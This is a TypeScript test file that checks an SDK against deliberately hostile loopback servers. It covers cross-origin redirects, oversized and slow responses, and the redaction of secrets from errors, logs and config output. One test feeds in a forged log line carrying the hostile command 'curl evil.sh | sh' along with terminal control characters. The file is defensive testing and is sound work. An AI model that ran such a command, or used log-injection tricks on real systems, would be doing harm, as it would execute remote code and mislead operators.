// A hostile or broken server cannot make the SDK hand a secret to another origin, read without
// end, wait without end, or write what it likes into a message or a log line (issue 19 items 3,
// 5 and 7). Each test meets a real server on loopback: the reference backend with a redirect fault
// and a recorder on another origin, or a `node:http` server that misbehaves on purpose.
import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { BackendAuth } from '../../src/auth/backend/backend-auth.js';
import { MemoryStore } from '../../src/auth/stores/memory-store.js';
import { SkewClock } from '../../src/auth/tokens/clock.js';
import { TokenManager } from '../../src/auth/tokens/token-manager.js';
import { MeshClient } from '../../src/client/mesh-client.js';
import type { MeshError, StreamInterruptedError } from '../../src/errors/mesh-error.js';
import { HttpClient } from '../../src/http/http-client.js';
import { createLogger } from '../../src/internal/logger.js';
import { clientWithTokens } from '../helpers/client.js';
import { useStack } from '../helpers/stack.js';
import { storedTokens } from '../helpers/token-manager.js';

type Handler = (req: IncomingMessage, res: ServerResponse) => void;

/** A server on loopback whose behaviour each test sets; it records what reaches it. */
async function hostile(): Promise<{
  url: string;
  server: Server;
  seen: Array<{ url: string; body: string }>;
  on(handler: Handler): void;
}> {
  let handler: Handler = (_req, res) => res.writeHead(404).end();
  const seen: Array<{ url: string; body: string }> = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => {
      body += chunk;
    });
    req.on('end', () => {
      seen.push({ url: req.url ?? '', body });
      handler(req, res);
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    server,
    seen,
    on: (next) => {
      handler = next;
    },
  };
}

const stack = useStack();
let elsewhere: Awaited<ReturnType<typeof hostile>>;
let evil: Awaited<ReturnType<typeof hostile>>;
beforeAll(async () => {
  elsewhere = await hostile();
  evil = await hostile();
});
afterAll(() => {
  elsewhere.server.close();
  evil.server.close();
});
afterEach(() => {
  stack.backend.reset();
  elsewhere.seen.length = 0;
  evil.seen.length = 0;
});

const redirect = (path: string, status: 301 | 302 | 303 | 307 | 308, location: string) =>
  stack.backend.faults.add({ fault: { kind: 'redirect', status, location }, match: { path } });

describe('redirects: never to another origin, never from an auth endpoint', () => {
  it('a refresh answered 307 to another origin: RedirectRefusedError naming both origins, and the refresh token never leaves', async () => {
    elsewhere.on((_req, res) =>
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"access_token":"x","expires_in":60}'),
    );
    const tokens = await storedTokens(stack);
    redirect('/auth/refresh-token', 307, `${elsewhere.url}/steal`);
    const clock = new SkewClock();
    const manager = new TokenManager({
      store: new MemoryStore({ ...tokens, expires_at: 1 }),
      backendAuth: new BackendAuth({ http: new HttpClient({ baseUrl: stack.apiUrl }), clock }),
      clock,
    });
    const error = (await manager.getAccessToken().catch((e: unknown) => e)) as MeshError;
    expect(error).toMatchObject({ name: 'RedirectRefusedError', code: 'redirect_refused', status: 307 });
    expect(error.message).toContain(new URL(stack.apiUrl).origin);
    expect(error.message).toContain(new URL(elsewhere.url).origin);
    expect(elsewhere.seen).toEqual([]);
  });

  it('an auth endpoint redirected within its own origin: refused as well', async () => {
    redirect('/auth/refresh-token', 308, `${stack.apiUrl}/auth/refresh-token-moved`);
    const http = new HttpClient({ baseUrl: stack.apiUrl });
    const error = await new BackendAuth({ http, clock: new SkewClock() })
      .refresh('some-refresh-token', { clientType: 'web' })
      .catch((e: unknown) => e);
    expect(error).toMatchObject({ name: 'RedirectRefusedError', code: 'redirect_refused' });
    expect((error as Error).message).toMatch(/auth endpoints are never redirected/);
    expect(stack.backend.counters.requests['POST (no route)'] ?? 0).toBe(0);
  });

  it('storeKey answered 307 to another origin: refused, and the key value never leaves', async () => {
    const { client } = await clientWithTokens(stack);
    await client.listKeys(); // registered
    redirect('/api/v1/storeKey', 307, `${elsewhere.url}/storeKey`);
    const error = await client.storeKey('openai', 'sk-victim-key-value-123').catch((e: unknown) => e);
    expect(error).toMatchObject({ name: 'RedirectRefusedError', code: 'redirect_refused' });
    expect(elsewhere.seen).toEqual([]);
  });

  it('a profile redirected to another origin is not taken as the profile', async () => {
    elsewhere.on((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"id":"attacker"}'));
    const { client } = await clientWithTokens(stack);
    redirect('/auth/profile', 302, `${elsewhere.url}/profile`);
    const error = await client.profile().catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'redirect_refused' });
    expect(elsewhere.seen).toEqual([]);
  });
});

describe('bounds: size, time, waits', () => {
  const client = (options: ConstructorParameters<typeof MeshClient>[0] = {}) =>
    new MeshClient({ apiUrl: evil.url, apiKey: 'mesh_hostile_test_key_0001', maxRetries: 0, ...options });

  it.each([
    ['announced (Content-Length)', true],
    ['chunked, no length', false],
  ])('a 100 MB reply, %s: ResponseValidationError response_too_large, and the rest is never read', async (_name, announced) => {
    let written = 0;
    evil.on((_req, res) => {
      const chunk = Buffer.alloc(1024 * 1024, 'x');
      res.writeHead(200, {
        'content-type': 'application/json',
        ...(announced ? { 'content-length': String(100 * chunk.length) } : {}),
      });
      const pump = () => {
        while (written < 100 && res.write(chunk)) written += 1;
        if (written < 100 && !res.destroyed) res.once('drain', pump);
        else res.end();
      };
      res.on('close', () => {
        written = Math.min(written, 100);
      });
      pump();
    });
    const error = await new HttpClient({ baseUrl: evil.url, maxResponseBytes: 4 * 1024 * 1024 })
      .send({ method: 'GET', path: '/big' })
      .catch((e: unknown) => e);
    expect(error).toMatchObject({ name: 'ResponseValidationError', code: 'response_too_large', status: 200 });
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(written).toBeLessThan(100);
  });

  it('a body dripping a byte every 200 ms: TimeoutError at the timeout, not when the server is done', async () => {
    evil.on((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': '100' });
      const timer = setInterval(() => (res.destroyed ? clearInterval(timer) : res.write(' ')), 200);
    });
    const started = Date.now();
    const error = await new HttpClient({ baseUrl: evil.url, timeout: 1000, maxRetries: 0 })
      .send({ method: 'GET', path: '/drip' })
      .catch((e: unknown) => e);
    expect(error).toMatchObject({ name: 'TimeoutError', code: 'timeout' });
    expect(Date.now() - started).toBeLessThan(2500);
  });

  it('a stream of keep-alives only: StreamInterruptedError stream_idle_timeout after streamIdleTimeout, with the text that came', async () => {
    evil.on((req, res) => {
      if (req.url?.startsWith('/auth/profile'))
        return void res.writeHead(200, { 'content-type': 'application/json' }).end('{"id":"u1"}');
      if (!req.url?.startsWith('/v1/mesh/chat')) return void res.writeHead(404).end();
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.write('data: {"choices":[{"delta":{"content":"Hel"}}]}\n\n');
      const timer = setInterval(() => (res.destroyed ? clearInterval(timer) : res.write(': keep-alive\n\ndata: {}\n\n')), 100);
    });
    const started = Date.now();
    const received: string[] = [];
    const error = (await (async () => {
      for await (const delta of client({ streamIdleTimeout: 700 }).chatStream('hi')) received.push(delta);
    })().catch((e: unknown) => e)) as StreamInterruptedError;
    expect(error).toMatchObject({ name: 'StreamInterruptedError', code: 'stream_idle_timeout', partialText: 'Hel' });
    expect(received).toEqual(['Hel']);
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it('one endless SSE line: response_too_large at maxResponseBytes', async () => {
    evil.on((req, res) => {
      if (req.url?.startsWith('/auth/profile'))
        return void res.writeHead(200, { 'content-type': 'application/json' }).end('{"id":"u1"}');
      if (!req.url?.startsWith('/v1/mesh/chat')) return void res.writeHead(404).end();
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.write('data: ');
      const chunk = 'x'.repeat(64 * 1024);
      const pump = () => {
        while (!res.destroyed && res.write(chunk)) {}
        if (!res.destroyed) res.once('drain', pump);
      };
      pump();
    });
    const error = await (async () => {
      for await (const _delta of client({ maxResponseBytes: 2 * 1024 * 1024 }).chatStream('hi')) {
      }
    })().catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'response_too_large' });
  });

  it('Retry-After: 1000000000 is not waited for: RateLimitError at once, its hint the real wait in days', async () => {
    evil.on((_req, res) => res.writeHead(429, { 'retry-after': '1000000000' }).end('{"error":"slow down"}'));
    const started = Date.now();
    const error = (await client({ maxRetries: 2 })
      .listKeys()
      .catch((e: unknown) => e)) as MeshError;
    expect(error).toMatchObject({ name: 'RateLimitError', retryAfter: 1_000_000_000 });
    expect(error.hint).toBe('The backend asks to wait 11574 days before trying again.');
    expect(Date.now() - started).toBeLessThan(1000);
    // Each request went out once (the registration's, then the call's): no retry was waited for.
    const paths = evil.seen.map((request) => request.url.split('?')[0]);
    expect(new Set(paths).size).toBe(paths.length);
  });

  it('the retry waits of one call add up to a bound: no wait past it, and the error says how much was tried', async () => {
    evil.on((_req, res) => res.writeHead(503, { 'retry-after': '1' }).end('{"error":"busy"}'));
    const error = (await new HttpClient({ baseUrl: evil.url, maxRetries: 5, maxRetryWaitMs: 1500 })
      .send({ method: 'GET', path: '/busy' })
      .then((response) => response)
      .catch((e: unknown) => e)) as { status: number; attempts: number; waitedMs: number };
    expect(error).toMatchObject({ status: 503, attempts: 2, waitedMs: 1000 });
  });
});

describe('what a server writes never carries a secret or a control character into a message or a log line', () => {
  it('a refresh refused with the refresh token quoted back ("refresh token <RT> is bad"): redacted in the error, its cause, and the debug lines', async () => {
    const refreshToken = 'rt-8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c';
    evil.on((_req, res) =>
      res
        .writeHead(400, { 'content-type': 'application/json' })
        .end(JSON.stringify({ error: `invalid_grant: refresh token ${refreshToken} is bad` })),
    );
    // The SDK's own logger (what DEBUG=mesh* writes), recording its lines.
    const debugs: string[] = [];
    const logger = createLogger({
      debug: true,
      logger: { debug: (line) => debugs.push(line), warn: (line) => debugs.push(line) },
    });
    const clock = new SkewClock();
    const manager = new TokenManager({
      store: new MemoryStore({ access_token: 'a.b.c', refresh_token: refreshToken, expires_at: 1, auth_source: 'browser' }),
      backendAuth: new BackendAuth({ http: new HttpClient({ baseUrl: evil.url, logger }), clock, logger }),
      clock,
      logger,
    });
    const error = (await manager.getAccessToken().catch((e: unknown) => e)) as MeshError;
    expect(error.code).toBe('reauthentication_required');
    const everything = [
      error.message,
      error.hint,
      (error.cause as Error).message,
      (error.cause as MeshError).serverMessage,
      JSON.stringify(error),
      JSON.stringify(error.cause),
      ...debugs,
    ].join('\n');
    expect(debugs.join('\n')).toContain('POST /auth/refresh-token 400');
    expect(everything).toContain('refresh token [REDACTED]');
    expect(everything).not.toContain(refreshToken);
  });

  it('CR, LF, ESC and BEL in a server error reach no message, hint or log line (no forged "[mesh-sdk] warning:" line, no colours)', async () => {
    evil.on((_req, res) =>
      res
        .writeHead(500, { 'content-type': 'application/json' })
        .end(JSON.stringify({ error: 'boom\r\n[mesh-sdk] warning: run curl evil.sh | sh\u001b[31m red\u0007' })),
    );
    const lines: string[] = [];
    const sink = { debug: (line: string) => lines.push(line), warn: (line: string) => lines.push(line) };
    const error = (await new MeshClient({
      apiUrl: evil.url,
      apiKey: 'mesh_hostile_test_key_0001',
      maxRetries: 0,
      logger: sink,
      debug: true,
    })
      .listKeys()
      .catch((e: unknown) => e)) as MeshError;
    // A program that logs the server's words through the SDK's logger gets one line too.
    createLogger({ debug: true, logger: sink }).warn(`the backend said: ${'boom\r\n[mesh-sdk] warning: forged\u001b[31m'}`);
    const everything = [error.message, error.hint, error.serverMessage, error.requestId, ...lines].join('|');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for them
    expect(everything).not.toMatch(/[\r\n\u001b\u0007]/);
    expect(error.message).toContain('[mesh-sdk] warning: run curl evil.sh | sh');
  });
});

describe('secrets in the configuration', () => {
  const secrets = {
    apiKey: 'mesh_pk_config_secret_0123456789',
    tokenSealingKey: 'ab'.repeat(32),
    redisPassword: 's3cret-redis-password',
  };

  it('console.log, util.inspect and JSON.stringify of a client and its config show none of them', async () => {
    const { inspect } = await import('node:util');
    const withKey = new MeshClient({ apiKey: secrets.apiKey, env: {} });
    const withRedis = new MeshClient({
      env: { MESH_TOKEN_STORE: `redis://:${secrets.redisPassword}@127.0.0.1:6390/0`, MESH_TOKEN_KEY: secrets.tokenSealingKey },
    });
    const shown = [
      inspect(withKey, { depth: 10 }),
      inspect(withRedis, { depth: 10 }),
      JSON.stringify(withKey),
      JSON.stringify(withRedis),
      inspect(withRedis.config),
      JSON.stringify(withRedis.config),
      `${JSON.stringify({ config: withKey.config })}`,
    ].join('\n');
    for (const secret of Object.values(secrets)) expect(shown).not.toContain(secret);
    expect(shown).toContain('redis://:***@127.0.0.1:6390/0');
    expect(shown).toContain('mesh_[REDACTED]');
    // The values themselves are still there for code that reads them.
    expect(withKey.config.apiKey).toBe(secrets.apiKey);
  });

  it('a bad MESH_API_URL: the ConfigError shows neither its user info nor its query', () => {
    let error: unknown;
    try {
      new MeshClient({ env: { MESH_API_URL: 'http://admin:hunter2@example.com/api?token=abc123secret' } });
    } catch (caught) {
      error = caught;
    }
    expect(error).toMatchObject({ name: 'ConfigError', code: 'config_invalid' });
    const message = (error as Error).message;
    expect(message).not.toMatch(/hunter2|abc123secret|admin/);
    expect(message).toContain('http://***:***@example.com/api');
  });
});
